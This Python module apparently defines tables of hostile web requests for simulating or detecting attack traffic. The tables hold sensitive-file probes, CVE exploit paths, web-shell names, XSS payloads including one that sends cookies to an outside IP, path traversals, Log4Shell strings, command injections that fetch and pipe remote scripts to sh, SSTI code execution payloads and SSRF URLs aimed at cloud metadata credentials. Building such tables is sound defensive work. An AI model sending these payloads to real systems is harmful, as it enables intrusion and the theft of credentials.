"""What attackers send: word lists and payloads of every kind, as they write them before encoding."""

# ruff: noqa: E501 (tables of text read better unbroken)

from __future__ import annotations

SENSITIVE = (
    "/.env", "/.env.bak", "/.env.production", "/.git/config", "/.git/HEAD", "/.svn/entries", "/.DS_Store", "/.aws/credentials",
    "/backup.zip", "/backup.sql", "/db.sql", "/dump.sql.gz", "/site.tar.gz", "/www.zip", "/wp-config.php.bak", "/wp-config.php~",
    "/config.php.old", "/configuration.php.save", "/web.config", "/.htpasswd", "/.ssh/id_rsa", "/id_rsa", "/docker-compose.yml",
    "/.dockerenv", "/.npmrc", "/.vscode/sftp.json", "/.idea/workspace.xml", "/composer.json", "/package.json", "/phpinfo.php",
    "/info.php", "/server-status", "/actuator/env", "/actuator/heapdump", "/debug/pprof/", "/.claude/settings.json",
    "/.cursor/mcp.json", "/.aider.chat.history.md", "/config/database.yml", "/storage/logs/laravel.log", "/error_log",
    "/api/.env", "/laravel/.env", "/app/.env", "/.terraform/terraform.tfstate", "/secrets.json", "/credentials.json",
)  # fmt: skip
WORDS = (
    "admin", "administrator", "login", "old", "test", "dev", "backup", "backups", "cgi-bin", "phpmyadmin", "pma", "mysql", "sql",
    "db", "console", "manager/html", "jenkins", "solr/admin", "webmail", "cpanel", "portal", "private", "secret", "tmp", "temp",
    "upload", "uploads", "files", "images", "img", "css", "js", "api", "api/v2", "v1", "v2", "swagger-ui.html", "swagger.json",
    "graphql", "graphiql", "metrics", "health", "status", "stats", "logs", "log", "data", "export", "import", "include", "includes",
    "inc", "lib", "src", "bin", "conf", "config", "setup", "install", "install.php", "admin.php", "login.php", "shell.php", "user",
    "users", "member", "members", "shop", "store", "cart", "checkout", "blog", "forum", "wiki", "docs", "doc", "download", "media",
    "static", "assets", "public", "internal", "intranet", "staging", "beta", "demo", "archive", "cache", "session", "sessions",
    "robots.txt", "sitemap.xml", "crossdomain.xml", "readme.html", "license.txt", "changelog.txt", "hnap1", "boaform", "owa",
    "autodiscover", "remote", "vpn", "citrix", "struts", "jmx-console", "web-console", "invoker", "axis2", "drupal", "joomla",
    "magento", "typo3", "moodle", "nagios", "zabbix", "cacti", "munin", "grafana", "kibana", "prometheus", "rabbitmq", "adminer",
)  # fmt: skip
CVES = (
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x",
    "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/", "/Telerik.Web.UI.WebResource.axd?type=rau",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "/s/x/_/;/WEB-INF/web.xml",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/bin/sh",
    "/public/plugins/alertlist/../../../../../../../../etc/passwd", "/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd",
    "/setup/setupadministrator.action", "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://198.51.100.7/m+-O+/tmp/n;sh+/tmp/n&curpath=/",
    "/autodiscover/autodiscover.json?@x.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@x.example", "/GponForm/diag_Form?images/",
    "/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css", "/php/ztp_gate.php/.js.map", "/geoserver/web/",
    "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx", "/developmentserver/metadatauploader", "/api/v1/totp/user-backup-code/../../system/system-information",
    "/mgmt/tm/util/bash", "/solr/admin/info/system?wt=json", "/console/images/%252e%252e%252fconsole.portal", "/wls-wsat/CoordinatorPortType",
    "/druid/index.html", "/nacos/v1/auth/users?pageNo=1&pageSize=9", "/xxl-job-admin/toLogin", "/seeyon/htmlofficeservlet", "/hudson",
    "/login.action?redirect:${%23context[\"xwork.MethodAccessor.denyMethodExecution\"]}", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "/${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream()))}/", "/boaform/admin/formLogin?username=ec8&psd=ec8",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/jaws;sh+/tmp/jaws", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+-O-+203.0.113.9/x|sh`)",
    "/poller_id=;id", "/actuator/gateway/routes", "/v2/_catalog", "/owa/auth/x.js", "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
)  # fmt: skip
SHELL_NAMES = (
    "c99.php", "r57.php", "wso.php", "alfa.php", "shell.php", "cmd.php", "b374k.php", "mini.php", "up.php", "x.php", "0x.php",
    "wp-content/plugins/hellopress/wp_filemanager.php", "wp-includes/css/wp-conflg.php", "wp-admin/css/colors/radio.php",
    "simple.php", "about.php7", "admin.php.suspected", "images/class.api.php", "wp-content/themes/seotheme/db.php",
)  # fmt: skip
SHELL_COMMANDS = (
    "id", "uname -a", "whoami", "ls -la /var/www", "cat /etc/passwd", "cat wp-config.php", "ps aux", "netstat -tlnp",
    "wget http://198.51.100.23/k.sh -O /tmp/.k", "chmod +x /tmp/.k;/tmp/.k", "crontab -l", "find / -perm -4000 2>/dev/null",
)  # fmt: skip
XSS = (
    "<script>alert(1)</script>", "\"><script>alert(document.domain)</script>", "'><img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>",
    "javascript:alert(document.cookie)", "\"><svg onload=fetch('//198.51.100.9/'+document.cookie)>", "<iframe srcdoc='<script>top.x=1</script>'>",
    "<details open ontoggle=alert`1`>", "';alert(String.fromCharCode(88,83,83))//", "<ScRiPt>prompt(1)</sCrIpT>", "<body onpageshow=alert(1)>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<img src=1 onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "\"autofocus onfocus=alert(1) x=\"", "<video><source onerror=\"javascript:alert(1)\">", "<marquee onstart=alert(1)>", "{{constructor.constructor('alert(1)')()}}",
)  # fmt: skip
TRAVERSALS = (
    "../../../../etc/passwd", "....//....//....//etc/passwd", "..%2f..%2f..%2f..%2fetc%2fpasswd", "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "/etc/passwd", "../../../../etc/passwd%00.pdf", "..\\..\\..\\windows\\win.ini", "file:///etc/passwd", "../../../../proc/self/environ",
    "php://filter/convert.base64-encode/resource=index.php", "../../../../var/log/nginx/access.log", "..%c0%af..%c0%af..%c0%afetc/passwd",
    "../config/database.yml", "../../../../root/.ssh/id_rsa", "../../../../etc/shadow", "../.env", "manuals/../../../../etc/hosts",
)  # fmt: skip
JNDI = (
    "${jndi:ldap://198.51.100.44:1389/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.5/x}", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.44/o}",
    "${jndi:dns://${env:HOSTNAME}.x1.example.net}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//203.0.113.5/z}",
    "${jndi:ldap://127.0.0.1#198.51.100.44:1389/a}", "${j${upper:n}di:ldaps://198.51.100.44/t}", "${jnd${sys:x:-i}:ldap://203.0.113.5:53/${sys:java.version}}",
)  # fmt: skip
COMMANDS = (
    ";id", "|id", "`id`", "$(id)", "&& whoami", "|| uname -a", ";cat /etc/passwd", "%0aid", "| ping -c 5 127.0.0.1", "& dir c:\\ &",
    ";curl http://198.51.100.61/$(whoami)", ";wget -qO- http://203.0.113.31/b|sh", "$(curl -s 203.0.113.31)", ";nslookup x.oast.example",
    "'; powershell -nop -w hidden -enc SQBFAFgA; '", ";echo${IFS}dGVzdA==|base64${IFS}-d|sh", "|busybox wget http://203.0.113.31/mips -O- >/tmp/m",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{7*'7'}}", "{{config}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}", "@(1+2)",
)  # fmt: skip
INSIDE = (
    "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://2852039166/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/latest/", "http://0xa9fea9fe/latest/user-data", "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://127.0.0.1:6379/", "http://localhost:9200/_cat/indices", "gopher://127.0.0.1:6379/_FLUSHALL", "file:///etc/passwd", "http://0/admin",
    "dict://127.0.0.1:11211/stat", "http://169.254.169.254.nip.io/", "http://[::1]:2375/containers/json", "http://100.100.100.200/latest/meta-data/",
)  # fmt: skip
SCANNERS = (
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "gobuster/3.8", "feroxbuster/2.11.0", "Fuzz Faster U Fool v2.1.0-dev",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Wfuzz/3.1.0", "dirsearch", "WPScan v3.8.28 (https://wpscan.com/wordpress-security-scanner)",
)  # fmt: skip
PLAIN_TOOLS = (
    "python-requests/2.32.5",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "Mozilla/5.0",
    "-",
    "libwww-perl/6.78",
    "l9explore/1.2.2",
)
WORDPRESS = (
    "/wp-login.php", "/xmlrpc.php", "/wp-json/wp/v2/users", "/?author=1", "/?author=2", "/?author=3", "/wp-admin/install.php",
    "/wp-admin/setup-config.php", "/wp-content/debug.log", "/wp-cron.php", "/wp-includes/wlwmanifest.xml", "/blog/wp-includes/wlwmanifest.xml",
    "/wordpress/wp-includes/wlwmanifest.xml", "/wp/wp-includes/wlwmanifest.xml", "/wp-content/plugins/revslider/readme.txt",
    "/wp-content/plugins/duplicator/readme.txt", "/wp-content/plugins/wp-file-manager/readme.txt", "/wp-content/plugins/elementor/readme.txt",
    "/wp-content/plugins/litespeed-cache/readme.txt", "/wp-content/plugins/really-simple-ssl/readme.txt", "/wp-content/plugins/wpforms-lite/readme.txt",
    "/wp-content/uploads/wpforms/", "/wp-content/backup-db/", "/wp-config.php.save", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
)  # fmt: skip
BROKEN = (
    "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x8a\xb1", "\x04\x01\x00P\xc6\x33\x64\x07\x00", "\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr",
    "SSH-2.0-Go", "MGLNDD_198.51.100.7_443", "t3 12.1.2", "\x05\x01\x00",
)  # fmt: skip
